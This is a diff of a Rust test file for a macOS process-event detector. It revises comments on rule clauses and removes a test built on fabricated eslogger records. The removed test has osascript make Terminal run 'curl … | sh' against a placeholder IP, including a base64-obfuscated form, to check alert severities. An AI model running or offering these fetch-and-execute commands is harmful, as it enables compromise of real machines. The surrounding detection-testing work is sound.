@@ -1,14 +1,11 @@
-//! What rules join on: objects before host and time. A clause that shares no more than host and time with the rest of its rule may meet the act of
-//! somebody else, so each of them is listed here with the reason why no object links it.
+//! What rules join on: objects before host and time. A clause that shares no more than host and time with the rest of its
+//! rule may meet the act of somebody else, so each of them is listed here with the reason why no object links it.
 
 use std::collections::{BTreeMap, BTreeSet};
 
 use ipcsentry::_internal_test_exports as internal;
 use ipcsentry::_internal_test_exports::{Behavior, Clause, ClauseId, Require};
-use ipcsentry::decode::Format;
-use ipcsentry::{Alert, Catalog};
-use ipcsentry_tests::recordings::hunt;
-use serde_json::json;
+use ipcsentry::Catalog;
 
 /// By behavior, the clauses that only host and time join, and why nothing better does.
 const BY_HOST_ALONE: &[(&str, &[&str], &str)] = &[
@@ -25,14 +22,13 @@ const BY_HOST_ALONE: &[(&str, &[&str], &str)] = &[
     ),
     (
         "M03",
-        &["sent", "veiled", "asked", "asked_through", "filed"],
-        "no record has the command: a private Apple Event, a script file, a text that the shell computes",
+        &["asked", "asked_through", "filed", "handed", "scripted", "scripted_deep", "sent", "told", "told_deep"],
+        "few records have the command that a terminal was given; the shell below the terminal joins the rest",
     ),
-    ("M03", &["handed"], "the file that `open` names runs as its owner writes it; nothing else is known of it"),
     (
         "M18",
-        &["load", "load_by_installed", "ran", "interpreted", "unlike", "home_shell"],
-        "launchctl names a definition, launchd runs a program; without a label in its environment no record ties them",
+        &["load", "load_by_installed", "ran", "interpreted", "home_shell"],
+        "launchctl names a definition, launchd runs a program; few records have the job's label",
     ),
     ("W12", &["install", "told"], "one record: both are of the service that is installed"),
     (
@@ -163,47 +159,4 @@ fn gives_order(clause: &Clause) -> bool {
 
 fn of(rule: &Behavior, clause: ClauseId) -> &Clause {
     &rule.clauses[usize::from(clause)]
-}
-
-/// One exec of eslogger: pid, image, whether it is a platform binary, parent and arguments.
-fn exec(second: u32, pid: u32, image: &str, is_platform: bool, parent: u32, args: &[&str]) -> String {
-    let token = |pid: u32| json!({"pid": pid, "pidversion": pid * 10, "euid": 501, "auid": 501, "asid": 100_007});
-    let process = |image: &str, is_platform: bool| {
-        json!({
-            "audit_token": token(pid), "parent_audit_token": token(parent), "ppid": parent, "original_ppid": parent,
-            "executable": {"path": image}, "is_platform_binary": is_platform, "team_id": null, "signing_id": null,
-        })
-    };
-    let body = json!({"target": process(image, is_platform), "args": args, "env": [], "cwd": {"path": "/"}});
-    let message = json!({
-        "schema_version": 1, "version": 9, "time": format!("2026-03-02T09:00:{second:02}.5Z"), "global_seq_num": second,
-        "action_type": 1, "process": process("/bin/zsh", true), "event": {"exec": body},
-    });
-    message.to_string() + "\n"
-}
-
-#[test]
-fn what_a_terminal_runs_has_to_be_in_the_script_that_was_sent_to_it() {
-    let terminal = "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal";
-    let severity = |script: &str, second: u32| {
-        let script = format!("tell application \"Terminal\" to do script \"{script}\"");
-        let log = [
-            exec(1, 801, "/private/tmp/helper", false, 1, &["helper"]),
-            exec(2, 802, "/usr/bin/osascript", true, 801, &["osascript", "-e", &script]),
-            exec(2, 803, terminal, true, 1, &["Terminal"]),
-            exec(3, 804, "/bin/zsh", true, 803, &["-zsh"]),
-            exec(second, 805, "/usr/bin/curl", true, 804, &["curl", "-s", "http://192.0.2.9/ab"]),
-        ];
-        let is_of_terminal = |alert: &Alert| alert.code == "M03";
-        hunt(Format::EsloggerJson, &[log.concat().as_bytes()]).0.into_iter().find(is_of_terminal).map(|a| a.severity)
-    };
-    assert_eq!(severity("curl -s http://192.0.2.9/ab | sh", 5), Some("critical"));
-    assert_eq!(severity("sleep 30; curl -s http://192.0.2.9/ab", 40), Some("critical"), "however late it runs");
-    assert_eq!(severity("cd /Users/ann/src", 5), Some("low"), "another command");
-    assert_eq!(
-        severity("$(base64 -d <<< Y3VybA==) -s http://192.0.2.9/ab", 5),
-        Some("medium"),
-        "the shell computes it"
-    );
-    assert_eq!(severity("$(base64 -d <<< Y3VybA==) -s http://192.0.2.9/ab", 40), Some("low"), "and time tells nothing");
 }
